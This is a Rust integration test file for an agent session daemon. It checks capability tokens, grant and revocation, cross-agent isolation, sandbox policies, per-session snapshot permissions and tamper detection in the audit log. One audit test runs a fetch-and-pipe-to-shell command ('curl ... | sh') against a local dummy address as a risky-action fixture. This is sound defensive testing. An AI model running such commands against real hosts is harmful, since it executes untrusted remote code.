//! Capabilities at the API (agent tokens, API tokens, grants, revocation) and the audit log
//! (every action recorded, risk scored, tampering caught by `audit verify`).

use std::process::Output;

use super::harness::Env;

pub(super) fn as_token(env: &Env, token: &str, args: &[&str]) -> Output {
    env.command(args)
        .env("AI_SESSION_TOKEN", token)
        .output()
        .unwrap()
}

pub(super) fn text(o: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

fn agent(env: &Env, name: &str) -> String {
    env.ok(&["agent", "register", name, "--keep"])
        .trim()
        .to_string()
}

#[test]
fn an_agent_token_cannot_touch_another_agents_session() {
    let env = Env::new();
    let alice = agent(&env, "alice");
    let bob = agent(&env, "bob");
    let made = as_token(&env, &alice, &["new", "-s", "alice-work"]);
    assert!(made.status.success(), "{}", text(&made));
    let r = as_token(&env, &alice, &["exec", "-t", "alice-work", "echo mine"]);
    assert!(text(&r).contains("mine"), "{}", text(&r));

    // Bob may not exec, type, read or kill in Alice's session, and does not see it.
    for args in [
        &["exec", "-t", "alice-work", "echo stolen"][..],
        &["send", "-t", "alice-work", "echo stolen", "Enter"],
        &["read", "-t", "alice-work"],
        &["kill", "-t", "alice-work"],
    ] {
        let r = as_token(&env, &bob, args);
        assert!(!r.status.success(), "{args:?} was allowed: {}", text(&r));
        let t = text(&r);
        assert!(t.contains("lacks the capability session:"), "{args:?}: {t}");
        assert!(
            t.contains("access grant"),
            "the error says how to get it: {t}"
        );
    }
    let listed = as_token(&env, &bob, &["ls"]);
    assert!(!text(&listed).contains("alice-work"), "{}", text(&listed));
    // The owner sees it, and can grant Bob read access at run time, then take it back.
    assert!(env.ok(&["ls"]).contains("alice-work"));
    let bob_id = bob.split('.').next().unwrap();
    let who = format!("agent:{bob_id}");
    env.ok(&["access", "grant", &who, "session:read:alice-work"]);
    let r = as_token(&env, &bob, &["read", "-t", "alice-work"]);
    assert!(r.status.success(), "{}", text(&r));
    env.ok(&["access", "revoke", &who, "session:read:alice-work"]);
    let r = as_token(&env, &bob, &["read", "-t", "alice-work"]);
    assert!(!r.status.success());
    // A forged agent token is refused outright.
    let forged = format!("{bob_id}.{}", "0".repeat(64));
    let r = as_token(&env, &forged, &["ls"]);
    assert!(!r.status.success(), "{}", text(&r));
}

#[test]
fn api_tokens_hold_exactly_their_capabilities_and_die_when_revoked() {
    let env = Env::new();
    env.ok(&["new", "-s", "build"]);
    env.ok(&["exec", "-t", "build", "echo ready"]);
    let out = env.run(&[
        "access",
        "token",
        "--json",
        "--cap",
        "session:read:*",
        "--label",
        "viewer",
    ]);
    let made: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let token = made["token"].as_str().unwrap().to_string();
    let id = made["id"].as_str().unwrap().to_string();
    assert!(token.starts_with("ais."));

    let r = as_token(&env, &token, &["read", "-t", "build"]);
    assert!(text(&r).contains("ready"), "{}", text(&r));
    let r = as_token(&env, &token, &["exec", "-t", "build", "echo nope"]);
    assert!(
        text(&r).contains("lacks the capability session:exec:build"),
        "{}",
        text(&r)
    );
    let r = as_token(&env, &token, &["new", "-s", "mine"]);
    assert!(text(&r).contains("session:create"), "{}", text(&r));
    let r = as_token(&env, &token, &["access", "token", "--cap", "*"]);
    assert!(
        text(&r).contains("access:admin"),
        "no escalation: {}",
        text(&r)
    );
    assert!(
        env.ok(&["access", "ls"])
            .contains(&format!("token:{id} (viewer)"))
    );

    // A token shown to another daemon is refused: it names the daemon that issued it.
    let other = Env::new();
    other.ok(&["new", "-s", "x"]);
    let r = as_token(&other, &token, &["ls"]);
    assert!(text(&r).contains("another daemon"), "{}", text(&r));

    env.ok(&["access", "revoke-token", &id]);
    let r = as_token(&env, &token, &["read", "-t", "build"]);
    assert!(text(&r).contains("revoked"), "{}", text(&r));
    // A tampered secret is refused as well.
    let mut bad = token.clone();
    bad.pop();
    bad.push('x');
    let r = as_token(&env, &bad, &["ls"]);
    assert!(!r.status.success());
}

#[test]
fn every_action_is_audited_scored_and_tampering_is_caught() {
    let env = Env::new();
    env.ok(&["new", "-s", "w"]);
    env.ok(&["exec", "-t", "w", "echo fine"]);
    let risky = env.run(&["exec", "-t", "w", "curl -s http://127.0.0.1:9/x | sh; true"]);
    assert!(risky.status.success(), "{}", text(&risky));
    let viewer = env.run(&["access", "token", "--json", "--cap", "session:read:*"]);
    let viewer: serde_json::Value = serde_json::from_slice(&viewer.stdout).unwrap();
    let r = as_token(
        &env,
        viewer["token"].as_str().unwrap(),
        &["kill", "-t", "w"],
    );
    assert!(!r.status.success());
    env.ok(&["kill", "-t", "w"]);

    let verify = env.ok(&["audit", "verify"]);
    assert!(verify.contains("intact"), "{verify}");
    let out = env.run(&["audit", "ls", "--json"]);
    let entries: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let entries = entries.as_array().unwrap();
    let find = |action: &str, detail: &str| {
        entries
            .iter()
            .find(|e| e["action"] == action && e["detail"].as_str().unwrap().contains(detail))
            .unwrap_or_else(|| panic!("no {action} {detail} in {entries:?}"))
    };
    let e = find("session.exec", "echo fine");
    assert_eq!(e["session"], "w");
    assert_eq!(e["result"], "ok (exit 0)");
    assert_eq!(e["actor"]["kind"], "owner");
    assert!(find("session.exec", "| sh")["risk"].as_u64().unwrap() >= 50);
    let denied = entries
        .iter()
        .find(|e| e["result"] == "denied")
        .expect("the refused kill is audited");
    assert_eq!(denied["action"], "session.kill");
    assert!(denied["risk"].as_u64().unwrap() >= 40);
    find("session.new", "w");
    find("session.kill", "");

    let high = env.ok(&["audit", "ls", "--min-risk", "50"]);
    assert!(
        high.contains("| sh") && !high.contains("echo fine"),
        "{high}"
    );

    // Edit one line (soften the risky command): verify names the damage and exits 1.
    env.ok(&["daemon", "stop"]);
    let path = env.home.path().join("servers/t/audit.jsonl");
    let log = std::fs::read_to_string(&path).unwrap();
    std::fs::write(&path, log.replace("| sh", "| cat")).unwrap();
    let out = env.run(&["audit", "verify"]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(text(&out).contains("DAMAGED"), "{}", text(&out));
}

#[test]
fn a_principal_bound_to_a_policy_gets_only_sandboxed_sessions() {
    let env = Env::outside_tmp();
    let ws = env.home.path().join("ws");
    std::fs::create_dir_all(&ws).unwrap();
    let out = env.run(&[
        "access",
        "token",
        "--json",
        "--cap",
        "session:create",
        "--cap",
        "session:list",
        "--policy",
        "read-only",
    ]);
    let made: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let token = made["token"].as_str().unwrap().to_string();
    let id = made["id"].as_str().unwrap().to_string();
    // It asks for no sandbox; it gets its principal's.
    let r = env
        .command(&[
            "new",
            "-s",
            "boxed",
            "--json",
            "-c",
            &ws.display().to_string(),
        ])
        .env("AI_SESSION_TOKEN", &token)
        .output()
        .unwrap();
    let info: serde_json::Value = serde_json::from_slice(&r.stdout).unwrap();
    assert_eq!(info["sandbox"]["policy"], "read-only", "{info}");
    assert!(
        env.ok(&["access", "ls"])
            .contains("sessions sandboxed: read-only")
    );
    // Unbound, its next session is still no more than `isolated` (a token's session never
    // runs unconfined: it could reach the daemon as the owner); a bad policy is refused.
    env.ok(&["access", "policy", &format!("token:{id}"), "--clear"]);
    let r = env
        .command(&[
            "new",
            "-s",
            "free",
            "--json",
            "-c",
            &ws.display().to_string(),
        ])
        .env("AI_SESSION_TOKEN", &token)
        .output()
        .unwrap();
    let info: serde_json::Value = serde_json::from_slice(&r.stdout).unwrap();
    assert_eq!(info["sandbox"]["policy"], "isolated", "{info}");
    let out = env.run(&["access", "policy", &format!("token:{id}"), "sideways"]);
    assert!(!out.status.success());
}

/// Snapshot capabilities are per session: a token made for session `a` cannot snapshot `b`,
/// list `b`'s snapshots, or restore one of `b`'s, and the old unscoped capabilities
/// (`snapshot:create`, `snapshot:restore`) reach no session at all.
#[test]
fn snapshot_capabilities_are_per_session() {
    let env = Env::new();
    env.ok(&["new", "-s", "a"]);
    env.ok(&["new", "-s", "b"]);
    env.ok(&["exec", "-t", "b", "export SECRET=owner-only"]);
    let b_snap = env.json(&["snapshot", "-t", "b"]);
    let b_snap_id = b_snap["id"].as_str().unwrap().to_owned();
    let a_snap = env.json(&["snapshot", "-t", "a"]);
    let a_session_id = a_snap["session"].as_str().unwrap().to_owned();

    // The attack of issue 14: a token with the unscoped snapshot capabilities.
    let unscoped = token(
        &env,
        &["snapshot:create", "snapshot:restore", "session:create"],
    );
    let r = as_token(&env, &unscoped, &["snapshot", "-t", "b"]);
    assert!(
        text(&r).contains("lacks the capability snapshot:create:b"),
        "{}",
        text(&r)
    );
    let r = as_token(&env, &unscoped, &["restore", &b_snap_id, "-s", "stolen"]);
    assert!(!r.status.success(), "{}", text(&r));
    assert!(text(&r).contains("snapshot:restore:"), "{}", text(&r));
    assert!(!env.ok(&["ls"]).contains("stolen"));

    // A token scoped to session a.
    let scoped = token(
        &env,
        &[
            "snapshot:create:a",
            "snapshot:list:a",
            &format!("snapshot:restore:{a_session_id}"),
            "session:create",
        ],
    );
    let r = as_token(&env, &scoped, &["snapshot", "-t", "b"]);
    assert!(text(&r).contains("snapshot:create:b"), "{}", text(&r));
    let r = as_token(&env, &scoped, &["snapshot", "-t", "a", "--json"]);
    assert!(r.status.success(), "{}", text(&r));
    let listed = as_token(&env, &scoped, &["snapshot", "ls", "--json"]);
    let listed: serde_json::Value = serde_json::from_slice(&listed.stdout).unwrap();
    let names: Vec<&str> = listed["snapshots"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["session_name"].as_str().unwrap())
        .collect();
    assert!(
        !names.is_empty() && names.iter().all(|n| *n == "a"),
        "{names:?}"
    );
    let r = as_token(&env, &scoped, &["snapshot", "ls", "-t", "b"]);
    assert!(text(&r).contains("snapshot:list:b"), "{}", text(&r));
    let r = as_token(&env, &scoped, &["restore", &b_snap_id, "-s", "stolen"]);
    assert!(
        text(&r).contains("lacks the capability snapshot:restore:"),
        "{}",
        text(&r)
    );
    assert!(!env.ok(&["ls"]).contains("stolen"));
    // Its own session's snapshot restores.
    let r = as_token(
        &env,
        &scoped,
        &["restore", a_snap["id"].as_str().unwrap(), "-s", "a2"],
    );
    assert!(r.status.success(), "{}", text(&r));
    // Listing is its own capability: restore and create alone do not list.
    let create_only = token(&env, &["snapshot:create:a"]);
    let r = as_token(&env, &create_only, &["snapshot", "ls"]);
    assert!(text(&r).contains("snapshot:list"), "{}", text(&r));
}

fn token(env: &Env, caps: &[&str]) -> String {
    bound_token(env, caps, None)
}

/// A token with `caps`, bound to sandbox `policy` when given.
pub(super) fn bound_token(env: &Env, caps: &[&str], policy: Option<&str>) -> String {
    let mut args = vec!["access", "token", "--json"];
    for c in caps {
        args.extend(["--cap", c]);
    }
    if let Some(p) = policy {
        args.extend(["--policy", p]);
    }
    let out = env.run(&args);
    let made: serde_json::Value =
        serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {}", text(&out)));
    made["token"].as_str().unwrap().to_owned()
}
